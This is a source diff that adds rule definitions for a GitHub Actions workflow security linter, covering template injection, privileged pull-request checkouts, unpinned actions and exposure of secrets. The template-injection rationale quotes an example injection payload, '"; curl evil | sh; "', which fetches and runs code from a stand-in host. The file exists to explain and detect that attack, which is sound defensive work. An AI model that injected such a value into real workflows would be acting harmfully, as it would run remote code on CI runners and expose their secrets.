@@ -1,0 +1,217 @@
+/** What the workflow analyzer reports, and why. */
+import type { RuleDefinition } from "../../model/rule.ts";
+
+const hardening = "https://docs.github.com/actions/reference/security/secure-use";
+const syntax = "https://docs.github.com/actions/reference/workflows-and-actions/workflow-syntax";
+
+export const workflowRules: readonly RuleDefinition[] = [
+  {
+    id: "workflows/always-true-condition",
+    summary: "A condition holds text outside `${{ }}`, so it is always true.",
+    category: "correctness",
+    severity: "error",
+    recommended: true,
+    rationale:
+      "`if: ${{ a }} && b` becomes a non-empty text, which is true. The same happens to a literal block (`if: |`) that holds `${{ }}`, because its line end is text. Put the whole condition inside one `${{ }}`, or write it without any.",
+    helpUrl: syntax,
+  },
+  {
+    id: "workflows/bot-actor-check",
+    summary: "A privileged workflow trusts `github.actor` to be a bot.",
+    category: "security",
+    severity: "warning",
+    recommended: true,
+    rationale:
+      "`github.actor` is whoever caused the latest event, not who wrote the change: a stranger can let the bot act on his pull request. Check `github.event.pull_request.user.login` instead.",
+    helpUrl: "https://docs.zizmor.sh/audits/#bot-conditions",
+  },
+  {
+    id: "workflows/credentials-in-artifact",
+    summary: "The checkout's token is uploaded with the artifact.",
+    category: "security",
+    severity: "warning",
+    recommended: true,
+    rationale:
+      "`actions/checkout` before v6 writes the job's token into `.git/config`. Uploading the whole workspace publishes it. Set `persist-credentials: false`, or upload only what is needed.",
+    helpUrl: hardening,
+  },
+  {
+    id: "workflows/deprecated-command",
+    summary: "A workflow command is used that GitHub has switched off or will.",
+    category: "correctness",
+    severity: "warning",
+    recommended: true,
+    rationale:
+      "`::set-env` and `::add-path` no longer work; `::set-output` and `::save-state` are deprecated. Append to the files named by `$GITHUB_ENV`, `$GITHUB_PATH`, `$GITHUB_OUTPUT` and `$GITHUB_STATE`.",
+    helpUrl: "https://github.blog/changelog/2022-10-11-github-actions-deprecating-save-state-and-set-output-commands/",
+  },
+  {
+    id: "workflows/excessive-permissions",
+    summary: "The token is given every permission.",
+    category: "security",
+    severity: "warning",
+    recommended: true,
+    rationale:
+      "With `write-all` any step, and any action it uses, can change the repository, its releases and its packages. Name the permissions that are needed.",
+    helpUrl: hardening,
+  },
+  {
+    id: "workflows/hardcoded-credentials",
+    summary: "A registry password is written into the workflow.",
+    category: "security",
+    severity: "error",
+    recommended: true,
+    rationale: "Everybody who can read the repository can read it. Put it into a secret, and change it.",
+    helpUrl: hardening,
+  },
+  {
+    id: "workflows/insecure-commands",
+    summary: "Insecure workflow commands are switched on again.",
+    category: "security",
+    severity: "error",
+    recommended: true,
+    rationale:
+      "`ACTIONS_ALLOW_UNSECURE_COMMANDS` lets everything that a step prints set variables and paths for later steps.",
+    helpUrl: "https://github.com/advisories/GHSA-mfwh-5m23-j46w",
+  },
+  {
+    id: "workflows/invalid",
+    summary: "GitHub will refuse the file.",
+    category: "correctness",
+    severity: "error",
+    recommended: true,
+    rationale: "What GitHub's own parser and language service say about syntax, schema and expressions.",
+    helpUrl: syntax,
+  },
+  {
+    id: "workflows/missing-permissions",
+    summary: "A job runs with the repository's default token permissions.",
+    category: "security",
+    severity: "info",
+    recommended: false,
+    rationale:
+      "Without `permissions` the token gets what the repository or organisation gives by default, which may be everything.",
+    helpUrl: hardening,
+  },
+  {
+    id: "workflows/pull-request-target-checkout",
+    summary: "A privileged workflow checks out and runs code of a stranger's pull request.",
+    category: "security",
+    severity: "error",
+    recommended: true,
+    rationale:
+      "`pull_request_target`, `workflow_run` and `issue_comment` run with secrets and a writable token. Code of the pull request that runs there can take both. Split the work: an unprivileged `pull_request` workflow that builds, and a privileged one that only reads its result.",
+    helpUrl: "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/",
+  },
+  {
+    id: "workflows/removed-action",
+    summary: "GitHub has switched this version of an action off: the step fails.",
+    category: "correctness",
+    severity: "error",
+    recommended: true,
+    rationale:
+      "`actions/upload-artifact` and `actions/download-artifact` before v4, and `actions/cache` v1 and v2, no longer work on github.com.",
+    helpUrl: "https://github.blog/changelog/2024-04-16-deprecation-notice-v3-of-the-artifact-actions/",
+  },
+  {
+    id: "workflows/removed-runner",
+    summary: "GitHub no longer has this runner image: the job never starts.",
+    category: "correctness",
+    severity: "error",
+    recommended: true,
+    rationale: "A job for an image that was removed waits until it is cancelled. Use an image that exists.",
+    helpUrl: "https://github.com/actions/runner-images",
+  },
+  {
+    id: "workflows/schedule-too-frequent",
+    summary: "A schedule is finer than GitHub's five minutes.",
+    category: "correctness",
+    severity: "warning",
+    recommended: true,
+    helpUrl: syntax,
+  },
+  {
+    id: "workflows/secret-echoed",
+    summary: "A secret is printed.",
+    category: "security",
+    severity: "warning",
+    recommended: true,
+    rationale: "Masking hides the exact text only: an encoded or split secret stays readable in the log.",
+    helpUrl: hardening,
+  },
+  {
+    id: "workflows/secrets-as-json",
+    summary: "All secrets are handed over at once.",
+    category: "security",
+    severity: "warning",
+    recommended: true,
+    rationale: "`toJSON(secrets)` gives a step every secret there is, also those added later. Name the ones it needs.",
+    helpUrl: "https://docs.zizmor.sh/audits/#overprovisioned-secrets",
+  },
+  {
+    id: "workflows/secrets-inherit",
+    summary: "A called workflow is given every secret.",
+    category: "security",
+    severity: "info",
+    recommended: false,
+    rationale: "`secrets: inherit` gives the called workflow every secret there is. Name the ones it needs.",
+    helpUrl: "https://docs.zizmor.sh/audits/#secrets-inherit",
+  },
+  {
+    id: "workflows/self-hosted-runner",
+    summary: "A pull request runs on a self-hosted runner.",
+    category: "security",
+    severity: "info",
+    recommended: false,
+    rationale: "In a public repository a stranger's code can stay on the machine after the job.",
+    helpUrl: hardening,
+  },
+  {
+    id: "workflows/template-injection",
+    summary: "Text that strangers write becomes part of a script.",
+    category: "security",
+    severity: "error",
+    recommended: true,
+    rationale:
+      'The value of `${{ }}` is pasted into the script before a shell sees it: a title such as `"; curl evil | sh; "` runs. Pass it through `env:` and use the variable.',
+    helpUrl: "https://securitylab.github.com/resources/github-actions-untrusted-input/",
+  },
+  {
+    id: "workflows/unknown-context",
+    summary: "An expression names a step, job or context property that does not exist.",
+    category: "correctness",
+    severity: "warning",
+    recommended: true,
+    rationale: "It is always empty. A step must come earlier in the same job; a job must be named in `needs`.",
+    helpUrl: "https://docs.github.com/actions/reference/workflows-and-actions/contexts",
+  },
+  {
+    id: "workflows/unpinned-action",
+    summary: "A third party's action that can be exchanged is given a secret or follows a branch.",
+    category: "security",
+    severity: "warning",
+    recommended: true,
+    rationale:
+      "Tags and branches can be moved to other code by whoever takes over the action's repository, and that code then sees the secret. Pin to a full commit SHA.",
+    helpUrl: hardening,
+  },
+  {
+    id: "workflows/unpinned-tag",
+    summary: "A third party's action is pinned to a tag, which can be moved.",
+    category: "security",
+    severity: "info",
+    recommended: false,
+    rationale: "Stricter than `workflows/unpinned-action`: every use of a tag. Pin to a full commit SHA.",
+    helpUrl: hardening,
+  },
+  {
+    id: "workflows/unsound-contains",
+    summary: "`contains` looks for a part of a text where a list is meant.",
+    category: "security",
+    severity: "warning",
+    recommended: true,
+    rationale:
+      "`contains('refs/heads/main refs/heads/dev', github.ref)` is also true for a branch `m` or `de`. Use `contains(fromJSON('[\"refs/heads/main\"]'), github.ref)`.",
+    helpUrl: "https://docs.zizmor.sh/audits/#unsound-contains",
+  },
+];
